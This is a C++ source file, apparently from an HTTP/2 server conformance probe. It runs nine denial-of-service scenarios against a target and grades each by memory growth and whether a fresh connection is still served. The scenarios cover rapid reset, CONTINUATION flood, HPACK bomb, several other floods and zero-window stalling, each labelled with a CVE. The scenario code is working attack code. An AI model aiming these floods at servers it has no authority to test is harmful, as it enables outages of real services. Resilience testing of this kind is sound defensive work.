#include "conformance/probe/attacks.h"

#include <dirent.h>
#include <unistd.h>

#include <algorithm>
#include <fstream>
#include <functional>
#include <map>
#include <set>
#include <sstream>

#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "absl/strings/str_split.h"
#include "absl/strings/strip.h"
#include "absl/strings/match.h"
#include "conformance/probe/conn.h"
#include "conformance/probe/procfs.h"

namespace probe {
namespace {

using http2::ErrorCode;
using http2::FrameSequence;
using http2::kFlagEndHeaders;
using http2::kFlagEndStream;

hpack::HeaderList Request(const Target& t) {
  return {{":method", "GET"}, {":scheme", t.scheme()}, {":authority", t.authority}, {":path", t.path}};
}

// The request's fields as HPACK literals without indexing (no table change), raw strings.
std::string LiteralRequest(const Target& t) {
  std::string block;
  for (const hpack::HeaderField& f : Request(t)) {
    block.push_back('\0');
    block.push_back(static_cast<char>(f.name.size()));
    block += f.name;
    block.push_back(static_cast<char>(f.value.size()));
    block += f.value;
  }
  return block;
}

// Samples the server's memory while a scenario runs.
struct Memory {
  int pid = -1;
  long before = -1, peak = -1;
  void Start(uint16_t port) {
    pid = FindServerPid(port);
    before = peak = RssKb(pid);
  }
  void Sample() { peak = std::max(peak, RssKb(pid)); }
};

// The state of one attack connection.
struct Attack {
  const Target& target;
  const AttackOptions& options;
  AttackResult* result;
  std::unique_ptr<Conn> conn;
  Memory* memory;
  absl::Time end;
  bool stalled = false;  // the server stopped reading (our writes blocked)

  bool Open(const std::vector<http2::Setting>& settings = {{http2::kSettingsEnablePush, 0}}) {
    const absl::Time deadline = absl::Now() + options.timeout;
    auto t = target.Connect(deadline);
    if (!t.ok()) {
      result->reaction = absl::StrCat("cannot connect: ", t.status().message());
      return false;
    }
    ConnOptions co;
    co.settings = settings;
    co.verbose_trace = false;
    conn = std::make_unique<Conn>(std::move(*t), co);
    if (!conn->Handshake(deadline).ok()) {
      result->reaction = "HTTP/2 preface failed";
      return false;
    }
    return true;
  }
  bool Reacted() const { return conn->obs().goaway() != nullptr || conn->obs().closed; }
  // Writes what out() holds; false when the connection ended or the server stopped reading.
  bool Send(int frames, bool read) {
    result->frames_sent += frames;
    const std::string bytes = conn->out().Take();
    result->bytes_sent += bytes.size();
    absl::Status s = conn->transport()->Write(bytes, absl::Now() + absl::Milliseconds(300));
    if (!s.ok()) {
      if (absl::IsDeadlineExceeded(s)) stalled = true;
      return false;
    }
    if (read) {
      while (conn->ReadSome(absl::Now())) {
      }
    }
    memory->Sample();
    return !Reacted();
  }
  bool TimeLeft() const { return absl::Now() < end; }
  // After the flood: wait for a reaction that may still be on its way.
  void Settle() {
    conn->WaitFor([&] { return Reacted(); }, absl::Now() + std::min(options.timeout, absl::Milliseconds(500)));
  }
  std::string StreamSummary() {
    std::map<std::string, int> counts;
    for (const auto& [id, st] : conn->obs().streams) {
      if (st.rst) ++counts[absl::StrCat("RST_STREAM ", http2::ErrorCodeName(static_cast<ErrorCode>(*st.rst)))];
      if (st.status) ++counts[absl::StrCat(st.status)];
    }
    std::string s;
    for (const auto& [what, n] : counts) absl::StrAppend(&s, s.empty() ? "" : ", ", what, " x", n);
    return s.empty() ? "-" : s;
  }
  std::string ReactionText() {
    const Observation& o = conn->obs();
    const std::string after = absl::StrCat(" after ", result->frames_sent, " frames");
    if (const GoAwayObs* g = o.goaway()) {
      return absl::StrCat("GOAWAY ", http2::ErrorCodeName(static_cast<ErrorCode>(g->code)), after,
                          g->debug.empty() ? "" : absl::StrCat(" (\"", g->debug.substr(0, 40), "\")"));
    }
    if (o.closed) return absl::StrCat("connection ", o.reset ? "reset" : "closed", after);
    if (stalled) return absl::StrCat("stopped reading", after, " (TCP backpressure)");
    return "none";
  }
};

using Scenario = std::function<void(Attack&)>;

struct Def {
  const char* name;
  const char* what;
  const char* reference;
  Scenario run;
};

uint64_t Count(const AttackOptions& o, uint64_t n) { return std::max<uint64_t>(1, n / std::max(1, o.scale)); }

std::vector<Def> Scenarios() {
  return {
      {"rapid-reset", "HEADERS then RST_STREAM CANCEL on new streams, as fast as possible",
       "CVE-2023-44487",
       [](Attack& a) {
         const uint64_t n = Count(a.options, 20000);
         uint32_t id = 1;
         for (uint64_t i = 0; i < n && a.TimeLeft() && id < 0x7fff0000u; i += 100) {
           for (int k = 0; k < 100; ++k, id += 2) {
             a.conn->out().Headers(id, Request(a.target), kFlagEndStream).RstStream(id, ErrorCode::kCancel);
           }
           if (!a.Send(200, true)) break;
         }
       }},
      {"made-you-reset",
       "requests followed by a frame the server must answer with RST_STREAM (WINDOW_UPDATE 0)",
       "CVE-2025-8671",
       [](Attack& a) {
         const uint64_t n = Count(a.options, 20000);
         uint32_t id = 1;
         for (uint64_t i = 0; i < n && a.TimeLeft(); i += 100) {
           for (int k = 0; k < 100; ++k, id += 2) {
             a.conn->out().Headers(id, Request(a.target), kFlagEndStream).WindowUpdate(id, 0);
           }
           if (!a.Send(200, true)) break;
         }
       }},
      {"continuation-flood",
       "HEADERS without END_HEADERS, then endless CONTINUATION frames of new fields",
       "VU#421644 (2024 CONTINUATION flood)",
       [](Attack& a) {
         a.conn->out().Headers(1, Request(a.target), kFlagEndStream, [] {
           http2::HeadersOptions o;
           o.end_headers = false;
           return o;
         }());
         const uint64_t n = Count(a.options, 64 * 1024);  // 1 KiB frames: 64 MiB
         for (uint64_t i = 0; i < n && a.TimeLeft(); i += 16) {
           for (int k = 0; k < 16; ++k) {
             std::string block;
             const std::string name = absl::StrCat("x-flood-", i + k);
             block.push_back('\0');
             block.push_back(static_cast<char>(name.size()));
             block += name;
             block.push_back(static_cast<char>(0x7f));
             block.push_back(static_cast<char>(0x81));
             block.push_back(static_cast<char>(0x07));  // value length 127 + 1 + 7*128 = 1024
             block += std::string(1024, 'v');
             a.conn->out().Continuation(1, block, 0);
           }
           if (!a.Send(16, true)) break;
         }
       }},
      {"hpack-bomb",
       "a 4000-octet field added to the dynamic table, then requests of thousands of one-octet "
       "references to it (each 16 KiB block decodes to 64 MB)",
       "RFC 7541 §7.3; CVE-2016-6581",
       [](Attack& a) {
         // Request 1 adds the big field (literal with incremental indexing) to the table.
         std::string first = LiteralRequest(a.target);
         first.push_back(0x40);
         first.push_back(6);
         first += "x-bomb";
         first.push_back(static_cast<char>(0x7f));  // 4000 = 127 + 3873; 3873 = 0x21 + 30*128
         first.push_back(static_cast<char>(0xa1));
         first.push_back(static_cast<char>(0x1e));
         first += std::string(4000, 'b');
         a.conn->out().HeadersFragment(1, first, kFlagEndStream | kFlagEndHeaders);
         if (!a.Send(1, true)) return;
         uint32_t id = 3;
         const std::string refs(16000, static_cast<char>(0xbe));  // index 62
         for (uint64_t i = 0; i < Count(a.options, 200) && a.TimeLeft(); ++i, id += 2) {
           const std::string block = LiteralRequest(a.target) + refs;
           a.conn->out().HeadersFragment(id, block.substr(0, 16000), kFlagEndStream);
           a.conn->out().Continuation(id, block.substr(16000), kFlagEndHeaders);
           if (!a.Send(2, true)) break;
         }
       }},
      {"settings-flood", "SETTINGS frames without reading the ACKs", "CVE-2019-9515",
       [](Attack& a) {
         for (uint64_t i = 0; i < Count(a.options, 2000000) && a.TimeLeft(); i += 500) {
           for (int k = 0; k < 500; ++k) a.conn->out().Settings({{http2::kSettingsMaxConcurrentStreams, 100}});
           if (!a.Send(500, false)) break;
         }
       }},
      {"ping-flood", "PING frames without reading the ACKs", "CVE-2019-9512",
       [](Attack& a) {
         for (uint64_t i = 0; i < Count(a.options, 2000000) && a.TimeLeft(); i += 500) {
           for (int k = 0; k < 500; ++k) a.conn->out().Ping(i + k);
           if (!a.Send(500, false)) break;
         }
       }},
      {"empty-frames", "an open request stream fed empty DATA frames", "CVE-2019-9518",
       [](Attack& a) {
         hpack::HeaderList req = Request(a.target);
         req[0].value = "POST";
         a.conn->out().Headers(1, req, 0);
         for (uint64_t i = 0; i < Count(a.options, 2000000) && a.TimeLeft(); i += 500) {
           for (int k = 0; k < 500; ++k) a.conn->out().Data(1, "");
           if (!a.Send(500, true)) break;
         }
       }},
      {"zero-window",
       "SETTINGS_INITIAL_WINDOW_SIZE=0 and as many requests as allowed, then WINDOW_UPDATEs of one "
       "octet (the server must hold the responses)",
       "CVE-2019-9517, CVE-2019-9511",
       [](Attack& a) {
         const uint32_t max = std::min<uint32_t>(a.conn->server_settings().max_concurrent_streams, 1000);
         uint32_t id = 1;
         for (uint32_t i = 0; i < max; ++i, id += 2) a.conn->out().Headers(id, Request(a.target), kFlagEndStream);
         if (!a.Send(max, true)) return;
         while (a.TimeLeft()) {
           for (uint32_t s = 1; s < id; s += 2) a.conn->out().WindowUpdate(s, 1);
           if (!a.Send(max, true)) break;
           absl::SleepFor(absl::Milliseconds(20));
         }
       }},
      {"stream-churn", "complete requests opened and answered back to back on one connection",
       "CVE-2019-9514 family (resource churn)",
       [](Attack& a) {
         uint32_t id = 1;
         for (uint64_t i = 0; i < Count(a.options, 20000) && a.TimeLeft() && id < 0x7fff0000u; i += 50) {
           for (int k = 0; k < 50; ++k, id += 2) a.conn->out().Headers(id, Request(a.target), kFlagEndStream);
           if (!a.Send(50, true)) break;
           a.conn->WaitFor([&] {
             const StreamObs* s = a.conn->obs().stream(id - 2);
             return s && s->decided();
           }, absl::Now() + a.options.timeout);
         }
       }},
  };
}

}  // namespace

std::vector<std::string> AttackNames() {
  std::vector<std::string> names;
  for (const Def& d : Scenarios()) names.push_back(d.name);
  return names;
}

std::vector<AttackResult> RunAttackScenarios(const Target& target, const AttackOptions& options) {
  std::vector<AttackResult> results;
  for (const Def& d : Scenarios()) {
    if (!options.only.empty() && std::find(options.only.begin(), options.only.end(), d.name) == options.only.end()) {
      continue;
    }
    AttackResult r;
    r.name = d.name;
    r.what = d.what;
    r.reference = d.reference;
    Memory memory;
    memory.Start(target.endpoint.port);
    Attack a{target, options, &r, nullptr, &memory, absl::Now() + options.budget};
    const absl::Time start = absl::Now();
    std::vector<http2::Setting> settings = {{http2::kSettingsEnablePush, 0}};
    if (r.name == "zero-window") settings.push_back({http2::kSettingsInitialWindowSize, 0});
    if (a.Open(settings)) {
      d.run(a);
      a.Settle();
      r.reaction = a.ReactionText();
      r.streams = a.StreamSummary();
      a.conn->Close();
    }
    r.seconds = absl::ToDoubleSeconds(absl::Now() - start);
    absl::SleepFor(absl::Milliseconds(100));
    r.rss_before_kb = memory.before;
    memory.Sample();
    r.rss_peak_kb = memory.peak;
    r.rss_after_kb = RssKb(memory.pid);
    // A fresh connection must still be served.
    const absl::Time t0 = absl::Now();
    {
      const absl::Time deadline = t0 + std::max(options.timeout, absl::Seconds(2));
      auto t = target.Connect(deadline);
      if (t.ok()) {
        Conn c(std::move(*t));
        if (c.Handshake(deadline).ok()) {
          c.out().Headers(1, Request(target), kFlagEndStream);
          c.NoteRequest(1, true);
          c.Flush(deadline).IgnoreError();
          c.WaitFor([&] { const StreamObs* s = c.obs().stream(1); return s && s->decided(); }, deadline);
          const StreamObs* s = c.obs().stream(1);
          r.fresh_connection_ok = s && s->status > 0;
        }
      }
    }
    r.fresh_connection_ms = absl::ToDoubleMilliseconds(absl::Now() - t0);
    const long growth = r.rss_peak_kb >= 0 && r.rss_before_kb >= 0 ? r.rss_peak_kb - r.rss_before_kb : -1;
    if (!r.fresh_connection_ok) {
      r.verdict = "NOT DEFENDED (stopped serving)";
    } else if (growth > 64 * 1024) {
      r.verdict = absl::StrFormat("NOT DEFENDED (memory +%.0f MiB)", growth / 1024.0);
    } else if (r.reaction != "none") {
      r.verdict = "cut off";
    } else {
      r.verdict = "absorbed";
    }
    r.defended = !absl::StartsWith(r.verdict, "NOT");
    if (growth < 0) r.note = "memory not measurable (server not on this machine)";
    results.push_back(std::move(r));
  }
  return results;
}

void PrintAttackTable(const std::vector<AttackResult>& results, std::ostream& out) {
  out << absl::StrFormat("%-18s %-9s %9s %6s %-48s %-34s %-20s %s\n", "scenario", "verdict", "frames", "secs",
                         "connection reaction", "stream answers", "RSS MiB before/peak", "fresh conn");
  for (const AttackResult& r : results) {
    auto mib = [](long kb) { return kb < 0 ? std::string("?") : absl::StrFormat("%.1f", kb / 1024.0); };
    out << absl::StrFormat("%-18s %-9s %9llu %6.2f %-48s %-34s %-20s %s\n", r.name, r.verdict,
                           static_cast<unsigned long long>(r.frames_sent), r.seconds, r.reaction.substr(0, 48),
                           r.streams.substr(0, 34), absl::StrCat(mib(r.rss_before_kb), "/", mib(r.rss_peak_kb)),
                           r.fresh_connection_ok ? absl::StrFormat("ok %.0f ms", r.fresh_connection_ms) : "FAILED");
  }
}

int RunAttacks(const Target& target, const AttackOptions& options, std::ostream& out) {
  out << "attack scenarios against " << target.display << " (each bounded to "
      << absl::FormatDuration(options.budget) << ")\n";
  const std::vector<AttackResult> results = RunAttackScenarios(target, options);
  PrintAttackTable(results, out);
  int down = 0, undefended = 0;
  for (const AttackResult& r : results) {
    down += !r.fresh_connection_ok;
    undefended += !r.defended;
  }
  int cut = 0;
  for (const AttackResult& r : results) cut += r.verdict == "cut off";
  out << cut << " cut off, " << results.size() - undefended - cut << " absorbed, " << undefended << " not defended";
  if (down) out << "; the server stopped answering fresh connections after " << down << " scenarios";
  out << "\n";
  return down ? 1 : 0;
}

}  // namespace probe
